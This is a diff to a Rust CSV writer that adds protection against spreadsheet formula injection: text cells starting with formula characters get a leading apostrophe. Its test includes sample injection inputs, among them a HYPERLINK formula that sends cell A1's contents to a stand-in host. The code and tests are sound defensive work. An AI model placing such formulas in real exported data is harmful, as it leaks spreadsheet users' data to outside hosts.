@@ -1,4 +1,6 @@
-//! CSV by RFC 4180, with values that readers parse back to the same bits.
+//! CSV by RFC 4180, with numbers that readers parse back to the same bits. Spreadsheets run cells that begin
+//! with certain characters as formulas, so a text that begins so gets an apostrophe in front: a name or a
+//! param from another user must not run. For other readers, texts can be left as they are.
 
 use std::io::Write as _;
 
@@ -12,9 +14,21 @@ use matyan_value::{
     json::{JsonStyle, write_text},
 };
 
+/// First characters of a formula.
+const FORMULAS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// The treatment of texts that look like formulas.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Formulas {
+    /// They get an apostrophe, which makes them texts.
+    Defused,
+    Kept,
+}
+
 /// Writes a table as CSV into memory.
 pub(crate) struct CsvWriter {
     written: Vec<u8>,
+    formulas: Formulas,
 }
 
 /// A column of a batch.
@@ -31,16 +45,16 @@ enum Column<'a> {
 
 impl CsvWriter {
     /// Writes the header.
-    pub(crate) fn new(schema: &Schema) -> Self {
+    pub(crate) fn new(schema: &Schema, formulas: Formulas) -> Self {
         let mut written = Vec::new();
         for (at, field) in schema.fields().iter().enumerate() {
             if at > 0 {
                 written.push(b',');
             }
-            write_field(&mut written, field.name());
+            write_field(&mut written, field.name(), formulas);
         }
         written.extend_from_slice(b"\r\n");
-        Self { written }
+        Self { written, formulas }
     }
 
     pub(crate) fn write(&mut self, rows: &RecordBatch) -> Result<(), ArrowError> {
@@ -50,7 +64,7 @@ impl CsvWriter {
                 if at > 0 {
                     self.written.push(b',');
                 }
-                column.write(&mut self.written, row);
+                column.write(&mut self.written, row, self.formulas);
             }
             self.written.extend_from_slice(b"\r\n");
         }
@@ -94,7 +108,7 @@ impl<'a> Column<'a> {
     }
 
     /// Appends the value of a row; nothing if it is missing.
-    fn write(&self, out: &mut Vec<u8>, row: usize) {
+    fn write(&self, out: &mut Vec<u8>, row: usize, formulas: Formulas) {
         if self.is_null(row) {
             return;
         }
@@ -110,16 +124,16 @@ impl<'a> Column<'a> {
                 None => write!(out, "{}", array.value(row)),
             },
             Self::Text(array) => {
-                write_field(out, array.value(row));
+                write_field(out, array.value(row), formulas);
                 Ok(())
             }
             Self::Texts(array) => {
-                write_field(out, &json_list(&array.value(row)));
+                write_field(out, &json_list(&array.value(row)), formulas);
                 Ok(())
             }
             Self::Dictionary(array, texts) => {
                 let text = array.key(row).map_or("", |key| texts.value(key));
-                write_field(out, text);
+                write_field(out, text, formulas);
                 Ok(())
             }
         };
@@ -140,10 +154,15 @@ fn json_list(texts: &ArrayRef) -> String {
 
 /// Appends a text, in quotes if it has to be. An empty text has quotes, because a missing one
 /// has none.
-fn write_field(out: &mut Vec<u8>, text: &str) {
-    let is_plain = |byte: u8| !matches!(byte, b',' | b'"' | b'\r' | b'\n');
+fn write_field(out: &mut Vec<u8>, text: &str, formulas: Formulas) {
+    let defused = match formulas {
+        Formulas::Defused if is_formula(text) => Some(format!("'{text}")),
+        Formulas::Defused | Formulas::Kept => None,
+    };
+    let text = defused.as_deref().unwrap_or(text);
+    let is_plain = !text.bytes().any(|byte| matches!(byte, b',' | b'"' | b'\r' | b'\n'));
     let has_edge_space = text.starts_with(' ') || text.ends_with(' ');
-    if !text.is_empty() && !has_edge_space && text.bytes().all(is_plain) {
+    if !text.is_empty() && !has_edge_space && is_plain {
         out.extend_from_slice(text.as_bytes());
         return;
     }
@@ -157,6 +176,11 @@ fn write_field(out: &mut Vec<u8>, text: &str) {
     out.push(b'"');
 }
 
+/// Whether a spreadsheet would run a text as a formula. A signed number is not a formula.
+fn is_formula(text: &str) -> bool {
+    text.starts_with(FORMULAS) && text.parse::<f64>().is_err()
+}
+
 #[cfg(test)]
 mod tests {
     use std::sync::Arc;
@@ -165,15 +189,51 @@ mod tests {
 
     use super::*;
 
-    fn csv(column: ArrayRef) -> String {
+    fn csv(column: ArrayRef, formulas: Formulas) -> String {
         let rows = RecordBatch::try_from_iter_with_nullable([("c", column, true)]).unwrap();
-        let mut writer = CsvWriter::new(&rows.schema());
+        let mut writer = CsvWriter::new(&rows.schema(), formulas);
         writer.write(&rows).unwrap();
         String::from_utf8(std::mem::take(writer.written_mut())).unwrap()
     }
 
     fn check(column: ArrayRef, expected: &[&str]) {
-        assert_eq!(csv(column), format!("c\r\n{}\r\n", expected.join("\r\n")));
+        let expected = format!("c\r\n{}\r\n", expected.join("\r\n"));
+        assert_eq!(csv(column.clone(), Formulas::Defused), expected);
+        assert_eq!(csv(column, Formulas::Kept), expected);
+    }
+
+    #[test]
+    fn rule_76_a_text_is_no_formula() {
+        let formulas =
+            ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x/?\"&A1,\"a\")"];
+        let numbers = ["-1", "+1.5e3", "-inf", "-0"];
+        let others = ["a=b", "'=1", " =1"];
+        let texts = StringArray::from([formulas.as_slice(), &numbers, &others].concat());
+        let expected = [
+            "'=1+1",
+            "'+A1",
+            "'-A1",
+            "'@SUM(A1)",
+            "'\t=1",
+            "\"'\r=1\"",
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"a\"\")\"",
+            "-1",
+            "+1.5e3",
+            "-inf",
+            "-0",
+            "a=b",
+            "'=1",
+            "\" =1\"",
+        ];
+        assert_eq!(
+            csv(Arc::new(texts.clone()), Formulas::Defused),
+            format!("c\r\n{}\r\n", expected.join("\r\n"))
+        );
+        let kept = csv(Arc::new(texts), Formulas::Kept);
+        assert!(kept.starts_with("c\r\n=1+1\r\n+A1\r\n-A1\r\n@SUM(A1)\r\n\t=1\r\n\"\r=1\"\r\n"), "{kept}");
+        let mut dictionary = StringDictionaryBuilder::<Int32Type>::new();
+        dictionary.append_value("=1");
+        assert_eq!(csv(Arc::new(dictionary.finish()), Formulas::Defused), "c\r\n'=1\r\n");
     }
 
     #[test]
